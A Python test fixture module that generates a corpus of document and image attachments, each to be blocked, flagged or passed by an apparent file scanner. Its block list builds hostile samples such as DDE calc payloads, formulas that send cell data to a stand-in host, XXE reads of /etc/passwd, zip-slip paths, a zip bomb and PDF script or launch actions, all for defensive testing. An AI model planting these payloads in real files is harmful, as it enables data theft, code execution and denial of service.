"""A corpus of attachments: what must be stopped, what must be told, and what must pass. Made here, byte by byte."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import docx
import openpyxl
import pikepdf
from openpyxl.comments import Comment
from PIL import ExifTags, Image

PERSON = "Kari Øvrebø"  # an example, nobody
Make = Callable[[], bytes]

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word(author: str = "", paragraphs: tuple[str, ...] = ("Blåbær på øya.",)) -> bytes:
    """An ordinary document in Word."""
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    document.core_properties.author = author
    document.core_properties.last_modified_by = ""
    return saved(document)


def saved(document: object) -> bytes:
    stream = io.BytesIO()
    document.save(stream)  # type: ignore[attr-defined]
    return stream.getvalue()


def workbook(fill: Callable[[openpyxl.Workbook], None] = lambda book: None) -> bytes:
    """An ordinary workbook, changed by ``fill``."""
    book = openpyxl.Workbook()
    book.properties.creator = ""
    book.active.title = "Måling"
    book.active["A1"] = "Ærlige tall"
    fill(book)
    return saved(book)


def changed(content: bytes, parts: Mapping[str, bytes | str | Callable[[str], str]]) -> bytes:
    """An archive with some parts put in, or changed by a function of their text."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            part = parts.get(name)
            new.writestr(name, part(old.read(name).decode()) if callable(part) else part or old.read(name))
        for name, part in parts.items():
            if name not in old.namelist():
                assert not callable(part), name
                new.writestr(name, part)
    return stream.getvalue()


def related(content: bytes, kind: str, target: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    """A document with one more relation that leads out of it."""
    relation = f'<Relationship Id="rIdX" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return changed(content, {part: lambda xml: xml.replace("</Relationships>", relation)})


def body(content: bytes, xml: str) -> bytes:
    """A Word document with raw XML first in its text."""
    return changed(content, {"word/document.xml": lambda text: text.replace("<w:body>", f"<w:body>{xml}", 1)})


def formula(text: str) -> bytes:
    def fill(book: openpyxl.Workbook) -> None:
        book.active["A2"] = text

    return workbook(fill)


def archive(*names: str) -> bytes:
    """A document with parts of odd names."""
    return changed(word(), dict.fromkeys(names, b"x"))


def linked_part() -> bytes:
    """A part that is a symbolic link, as Info-ZIP writes them."""
    stream = io.BytesIO(word())
    with zipfile.ZipFile(stream, "a") as file:
        info = zipfile.ZipInfo("word/lenke.xml")
        info.external_attr = 0o120777 << 16
        file.writestr(info, "/etc/passwd")
    return stream.getvalue()


def encrypted_part() -> bytes:
    """The flag for encryption in the central directory and the local header."""
    content = bytearray(word())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(signature)
        content[place + offset] |= 1
    return bytes(content)


def bomb() -> bytes:
    """300 MB of nothing, packed in less than one."""
    stream = io.BytesIO(word())
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as file, file.open("word/media/stor.xml", "w") as part:
        for _ in range(30):
            part.write(b" " * 10_000_000)
    return stream.getvalue()


def many_parts() -> bytes:
    stream = io.BytesIO(word())
    with zipfile.ZipFile(stream, "a") as file:
        for number in range(6_000):
            file.writestr(f"word/media/{number}.xml", "")
    return stream.getvalue()


DTD = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'


def field(code: str) -> str:
    """A field of Word, its code split in two runs."""
    half = len(code) // 2
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (code[:half], code[half:]))
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda document: None, text: str = "Blabaer", **save: object) -> bytes:
    """A document of one page with a line of text."""
    document = pikepdf.new()
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    document.add_blank_page(page_size=(595, 842))
    page = document.pages[0]
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    page.Contents = document.make_stream(f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1"))
    change(document)
    stream = io.BytesIO()
    document.save(stream, **save)  # type: ignore[arg-type]
    return stream.getvalue()


def opening(action: dict[str, object]) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(action)

    return pdf(change)


def note(**entries: object) -> bytes:
    """A page with one annotation."""

    def change(document: pikepdf.Pdf) -> None:
        annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 10, 10], **entries)
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(annotation)])

    return pdf(change)


def attached(document: pikepdf.Pdf) -> None:
    document.attachments["hemmelig.txt"] = b"Hei"


def authored(document: pikepdf.Pdf) -> None:
    document.docinfo["/Author"] = PERSON


def titled_xmp(document: pikepdf.Pdf) -> None:
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = [PERSON]


def opens_at_page(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])


def picture(kind: str, exif: Callable[[Image.Exif], None] = lambda exif: None) -> bytes:
    image, tags, stream = Image.new("RGB", (40, 30), "navy"), Image.Exif(), io.BytesIO()
    exif(tags)
    image.save(stream, kind, exif=tags)
    return stream.getvalue()


def commented(text: str, kind: str = "JPEG") -> bytes:
    """A picture with a comment, as old cameras and programs leave them."""
    stream = io.BytesIO()
    Image.new("RGB", (40, 30), "navy").save(stream, kind, comment=text.encode())
    return stream.getvalue()


def with_segment(marker: int, data: bytes) -> bytes:
    """A JPEG with one more segment of notes."""
    content = picture("JPEG")
    return content[:2] + struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data + content[2:]


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def with_chunk(kind: bytes, data: bytes) -> bytes:
    """A PNG with one more chunk, behind its head."""
    content = picture("PNG")
    return content[:33] + chunk(kind, data) + content[33:]


def located(exif: Image.Exif) -> None:
    exif[ExifTags.Base.Make] = "Kamera"  # Pillow writes no place alone into a PNG
    exif.get_ifd(ExifTags.IFD.GPSInfo)[1] = "N"
    exif.get_ifd(ExifTags.IFD.GPSInfo)[2] = (59.0, 54.0, 0.0)


def signed(exif: Image.Exif) -> None:
    exif[ExifTags.Base.Artist] = PERSON


def comment(book: openpyxl.Workbook) -> None:
    book.active["A1"].comment = Comment("Husk å spørre", "redaktør")


def hidden(book: openpyxl.Workbook) -> None:
    book.create_sheet("Pasienter på Ærøy").sheet_state = "veryHidden"


def opendocument(content: str, kind: str = "text", extra: Mapping[str, str] | None = None, meta: str = "") -> bytes:
    """A small OpenDocument file with ``content`` in its body."""
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "text", "table", "style", "draw", "meta", "manifest", "script")
    )
    spaces += ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as file:
        file.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}")
        file.writestr("content.xml", f"<office:document-content {spaces}>{content}</office:document-content>")
        file.writestr("meta.xml", f"<office:document-meta {spaces}>{meta}</office:document-meta>")
        for name, text in (extra or {}).items():
            file.writestr(name, text.replace("SPACES", spaces))
    return stream.getvalue()


def old_office(locked: bool) -> bytes:
    """The beginning of a file in Microsoft's compound format, as password protection makes it."""
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + ("EncryptedPackage".encode("utf-16-le") if locked else b"")
    )


CONTENT_TYPES = "[Content_Types].xml"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

BAD: dict[str, tuple[str, str, Make]] = {
    # what it is -> the code it must give, the name it has, how it is made
    "vba in a workbook": ("VL009", "a.xlsx", lambda: changed(workbook(), {"xl/vbaProject.bin": b"\xd0\xcf"})),
    "vba in a document": ("VL009", "a.docx", lambda: changed(word(), {"word/vbaProject.bin": b"\xd0\xcf"})),
    "vba in a presentation's name only": ("VL009", "a.docx", lambda: changed(word(), {"word/vbaData.xml": b"<x/>"})),
    "macro content type": (
        "VL009", "a.docx",
        lambda: changed(word(), {CONTENT_TYPES: lambda t: t.replace(WORD_TYPE, "application/vnd.ms-word.document.macroEnabled.main+xml")}),
    ),
    "a macro workbook with another ending": (
        "VL009", "a.xlsx",
        lambda: changed(workbook(), {CONTENT_TYPES: lambda t: t.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")}),
    ),
    "a binary workbook with another ending": (
        "VL009", "a.xlsx",
        lambda: changed(workbook(), {CONTENT_TYPES: lambda t: t.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.binary.macroEnabled.main")}),
    ),
    "excel 4 macros": ("VL009", "a.xlsx", lambda: changed(workbook(), {"xl/macrosheets/sheet1.xml": b"<x/>"})),
    "an .xlsm": ("VL009", "a.xlsm", workbook),
    "a document named as a workbook": ("VL005", "a.xlsx", word),
    "a workbook named as a document": ("VL005", "a.docx", workbook),
    "a zip named as a document": ("VL005", "a.docx", lambda: changed(word(), {CONTENT_TYPES: b"<Types/>"})),
    "html named as pdf": ("VL005", "a.pdf", lambda: b"<html><script>alert(1)</script>"),
    "a program named as text": ("VL005", "a.txt", lambda: b"MZ\x00\x00\x90"),
    "gif named as png": ("VL005", "a.png", lambda: b"GIF89a" + bytes(20)),
    "a broken picture behind the right bytes": ("VL005", "a.jpg", lambda: b"\xff\xd8\xff" + bytes(50)),
    "svg": ("VL030", "a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "an old workbook": ("VL031", "a.xls", lambda: old_office(False)),
    "an old document with a new name": ("VL005", "a.docx", lambda: old_office(False)),
    "password protected": ("VL008", "a.docx", lambda: old_office(True)),
    "encrypted parts": ("VL008", "a.docx", encrypted_part),
    "linked picture": ("VL015", "a.docx", lambda: related(word(), "image", "https://ond.example/spor.png")),
    "linked workbook": (
        "VL015", "a.xlsx",
        lambda: changed(workbook(), {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
    ),
    "data connection": ("VL015", "a.xlsx", lambda: changed(workbook(), {"xl/connections.xml": b"<connections/>"})),
    "web add-in": ("VL015", "a.docx", lambda: changed(word(), {"word/webextensions/webextension1.xml": b"<x/>"})),
    "remote template": (
        "VL016", "a.docx",
        lambda: related(word(), "attachedTemplate", "https://ond.example/mal.dotm"),
    ),
    "template on somebody's machine": (
        "VL016", "a.docx",
        lambda: related(word(), "attachedTemplate", "file:///C:\\Users\\kari\\mal.dotm"),
    ),
    "ole object": ("VL017", "a.docx", lambda: changed(word(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf"})),
    "activex": ("VL017", "a.docx", lambda: changed(word(), {"word/activeX/activeX1.xml": b"<x/>"})),
    "a program inside": ("VL017", "a.docx", lambda: archive("word/media/regning.exe")),
    "a web page inside": (
        "VL017", "a.docx",
        lambda: changed(word(), {"word/afchunk.mht": b"<html>", "word/_rels/document.xml.rels": lambda x: x.replace("</Relationships>", f'<Relationship Id="rX" Type="{REL}/aFChunk" Target="afchunk.mht"/></Relationships>')}),
    ),
    "a workbook with macros behind a diagram": (
        "VL009", "a.docx",
        lambda: changed(word(), {"word/embeddings/tall.xlsx": changed(workbook(), {"xl/vbaProject.bin": b"x"})}),
    ),
    "zip slip": ("VL012", "a.docx", lambda: archive("../../evil.xml")),
    "absolute name": ("VL012", "a.docx", lambda: archive("/etc/evil.xml")),
    "backslashes": ("VL012", "a.docx", lambda: archive("..\\evil.xml")),
    "a part twice": ("VL012", "a.docx", lambda: archive("Word/document.xml")),
    "a part that is a link": ("VL012", "a.docx", linked_part),
    "zip bomb": ("VL013", "a.docx", bomb),
    "too many parts": ("VL013", "a.docx", many_parts),
    "external entity": ("VL014", "a.docx", lambda: changed(word(), {"word/evil.xml": DTD})),
    "entities that unfold": ("VL014", "a.xlsx", lambda: changed(workbook(), {"docProps/core.xml": LAUGHS})),
    "broken xml": ("VL011", "a.docx", lambda: changed(word(), {"word/document.xml": b"<w:document"})),
    "half a file": ("VL011", "a.docx", lambda: word()[:3000]),
    "webservice": ("VL018", "a.xlsx", lambda: formula('=WEBSERVICE("https://ond.example/?"&A1)')),
    "webservice as excel writes it": ("VL018", "a.xlsx", lambda: formula('=_xlfn.WEBSERVICE("https://ond.example")')),
    "dde": ("VL018", "a.xlsx", lambda: formula("=cmd|'/c calc'!A0")),
    "link that carries a cell away": ("VL018", "a.xlsx", lambda: formula('=HYPERLINK("https://ond.example/?q="&A1,"Klikk")')),
    "link that is a program": ("VL018", "a.xlsx", lambda: formula('=HYPERLINK("javascript:alert(1)","Klikk")')),
    "formula to another workbook": ("VL018", "a.xlsx", lambda: formula("='\\\\server\\del\\[bok.xlsx]Ark1'!A1")),
    "link to a file": ("VL019", "a.docx", lambda: related(word(), "hyperlink", "file:///C:/Users/kari/plan.docx")),
    "link to a server": ("VL019", "a.docx", lambda: related(word(), "hyperlink", "\\\\server\\del\\plan.docx")),
    "link that is a script": ("VL019", "a.docx", lambda: related(word(), "hyperlink", "javascript:alert(1)")),
    "word field, split": ("VL020", "a.docx", lambda: body(word(), field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))),
    "word field, simple": (
        "VL020", "a.docx",
        lambda: body(word(), '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;https://ond.example&quot; "/></w:p>'),
    ),
    "pdf that opens with a script": (
        "VL021", "a.pdf", lambda: opening({"/S": pikepdf.Name.JavaScript, "/JS": pikepdf.String("app.alert(1)")}),
    ),
    "pdf that starts a program": (
        "VL021", "a.pdf", lambda: opening({"/S": pikepdf.Name.Launch, "/F": pikepdf.String("cmd.exe")}),
    ),
    "pdf that sends": ("VL021", "a.pdf", lambda: note(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm))),
    "pdf with additional actions": ("VL021", "a.pdf", lambda: note(Subtype=pikepdf.Name.Widget, AA=pikepdf.Dictionary())),
    "pdf with a script in a link": (
        "VL019", "a.pdf",
        lambda: note(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:alert(1)"))),
    ),
    "pdf with files inside": ("VL022", "a.pdf", lambda: pdf(attached)),
    "pdf with a password": ("VL008", "a.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="hemmelig", owner="x"))),
    "pdf that may not be printed": ("VL008", "a.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="", owner="x"))),
    "half a pdf": ("VL011", "a.pdf", lambda: b"%PDF-1.7\n" + struct.pack("<100I", *range(100))),
    "csv with a formula": ("VL023", "a.csv", lambda: b"Navn;Tall\n=HYPERLINK(1);2\n"),
    "csv with a formula in quotes": ("VL023", "a.csv", lambda: b'Navn,Tall\n"+cmd|\'/c calc\'!A0",2\n'),
    "csv with an at": ("VL023", "a.csv", lambda: b"Navn\tTall\n@SUM(A1)\t2\n"),
    "picture with a place": ("VL024", "a.jpg", lambda: picture("JPEG", located)),
    "png with a place": ("VL024", "a.png", lambda: picture("PNG", located)),
    "picture with a place in a document": (
        "VL024", "a.docx", lambda: changed(word(), {"word/media/bilde1.jpeg": picture("JPEG", located)}),
    ),
    "odt with basic": (
        "VL009", "a.odt", lambda: opendocument("<office:body/>", extra={"Basic/Standard/Module1.xml": "<x/>"}),
    ),
    "odt with a listener": (
        "VL009", "a.odt",
        lambda: opendocument('<script:event-listener script:language="ooo:script" script:event-name="dom:load"/>'),
    ),
    "odt named as ods": ("VL005", "a.ods", lambda: opendocument("<office:body/>")),
    "odt, encrypted": (
        "VL008", "a.odt",
        lambda: opendocument("<office:body/>", extra={"META-INF/manifest.xml": "<manifest:manifest SPACES><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>"}),
    ),
    "odt with a linked picture": (
        "VL015", "a.odt", lambda: opendocument('<draw:image xlink:href="https://ond.example/spor.png"/>'),
    ),
    "ods with dde": (
        "VL018", "a.ods",
        lambda: opendocument('<table:table-cell table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)"/>', "spreadsheet"),
    ),
    "ods with a webservice": (
        "VL018", "a.ods",
        lambda: opendocument('<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://ond.example&quot;)"/>', "spreadsheet"),
    ),
    "odt with an entity": ("VL014", "a.odt", lambda: opendocument("<office:body/>", extra={"styles.xml": DTD})),
}  # fmt: skip

TOLD: dict[str, tuple[str, str, Make]] = {
    "author of a document": ("VL025", "a.docx", lambda: word(author=PERSON)),
    "author of a workbook": ("VL025", "a.xlsx", lambda: workbook(lambda b: setattr(b.properties, "creator", PERSON))),
    "last changed by": ("VL025", "a.xlsx", lambda: workbook(lambda b: setattr(b.properties, "lastModifiedBy", PERSON))),
    "author of a pdf": ("VL025", "a.pdf", lambda: pdf(authored)),
    "author of a pdf in xmp": ("VL025", "a.pdf", lambda: pdf(titled_xmp)),
    "photographer": ("VL025", "a.jpg", lambda: picture("JPEG", signed)),
    "author of an odt": (
        "VL025", "a.odt", lambda: opendocument("<office:body/>", meta=f"<meta:initial-creator>{PERSON}</meta:initial-creator>"),
    ),
    "comments in a workbook": ("VL026", "a.xlsx", lambda: workbook(comment)),
    "comments in a document": (
        "VL026", "a.docx",
        lambda: changed(word(), {"word/comments.xml": f'<w:comments xmlns:w="{W}"><w:comment w:id="0"/></w:comments>'}),
    ),
    "remarks in a pdf": ("VL026", "a.pdf", lambda: note(Subtype=pikepdf.Name.Highlight, Contents=pikepdf.String("Husk"))),
    "comments in an odt": ("VL026", "a.odt", lambda: opendocument("<office:annotation><text:p>Husk</text:p></office:annotation>")),
    "tracked changes": ("VL027", "a.docx", lambda: body(word(), "<w:p><w:del><w:r><w:delText>Slettet</w:delText></w:r></w:del></w:p>")),
    "tracked changes in an odt": ("VL027", "a.odt", lambda: opendocument("<text:changed-region/>")),
    "hidden sheet": ("VL028", "a.xlsx", lambda: workbook(hidden)),
    "hidden text": ("VL028", "a.docx", lambda: body(word(), "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Skjult</w:t></w:r></w:p>")),
    "hidden sheet in an ods": (
        "VL028", "a.ods",
        lambda: opendocument('<style:style style:name="ta2"><style:text-properties/><style:table-properties table:display="false"/></style:style><table:table table:name="Øy" table:style-name="ta2"/>', "spreadsheet"),
    ),
    "a workbook behind a diagram": ("VL029", "a.docx", lambda: changed(word(), {"word/embeddings/tall.xlsx": workbook()})),
}  # fmt: skip

GOOD: dict[str, tuple[str, Make]] = {
    "a document": ("a.docx", word),
    "a document by an organisation": ("a.docx", lambda: word(author="InnoMed")),
    "a document with a link": ("a.docx", lambda: related(word(), "hyperlink", "https://innomed.no/verktoy/")),
    "a document with a mailbox": ("a.docx", lambda: related(word(), "hyperlink", "mailto:post@innomed.example")),
    "a document with a page number": ("a.docx", lambda: body(word(), field(" PAGE \\* MERGEFORMAT "))),
    "a document with a picture": ("a.docx", lambda: changed(word(), {"word/media/bilde.jpeg": picture("JPEG")})),
    "a workbook": ("a.xlsx", workbook),
    "a workbook with sums": ("a.xlsx", lambda: formula('=SUM(B1:B9)+IF(A1="=","a|b",ROUND(C1,2))')),
    "a workbook with a link inside": ("a.xlsx", lambda: formula("=HYPERLINK(\"#'Måling'!A1\",\"Til toppen\")")),
    "a workbook with a link": ("a.xlsx", lambda: formula('=HYPERLINK("https://innomed.no/","InnoMed")')),
    "a table's formula": ("a.xlsx", lambda: formula("=SUM(Tabell1[Beløp])")),
    "a workbook with printer settings": ("a.xlsx", lambda: changed(workbook(), {"xl/printerSettings/printerSettings1.bin": b"x"})),
    "a pdf": ("a.pdf", pdf),
    "a pdf that opens at its first page": ("a.pdf", lambda: pdf(opens_at_page)),
    "a pdf with a link": (
        "a.pdf",
        lambda: note(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://innomed.no"))),
    ),
    "a csv": ("a.csv", lambda: "Navn;Endring;Dato\nBlåbær;-12,5;2026-11-22\nØy;+3 %;- ukjent\n".encode("utf-8-sig")),
    "a csv from excel": ("a.csv", lambda: "Navn;Tall\nBlåbær;1\n".encode("cp1252")),
    "a text": ("a.txt", lambda: "Øvelse = mester\n=====\n".encode()),
    "a png": ("a.png", lambda: picture("PNG")),
    "a jpg": ("a.jpg", lambda: picture("JPEG")),
    "a gif": ("a.gif", lambda: picture("GIF")),
    "a webp": ("a.webp", lambda: picture("WEBP")),
    "an odt": ("a.odt", lambda: opendocument("<office:body><text:p>Blåbær</text:p></office:body>")),
    "an ods with a sheet that is shown": (
        "a.ods",
        lambda: opendocument('<style:style style:name="ta1"><style:table-properties table:display="true"/></style:style><table:table table:name="Øy" table:style-name="ta1"/>', "spreadsheet"),
    ),
    "an ods": (
        "a.ods",
        lambda: opendocument('<table:table-cell table:formula="of:=SUM([.A1:.A9])" />', "spreadsheet"),
    ),
}  # fmt: skip
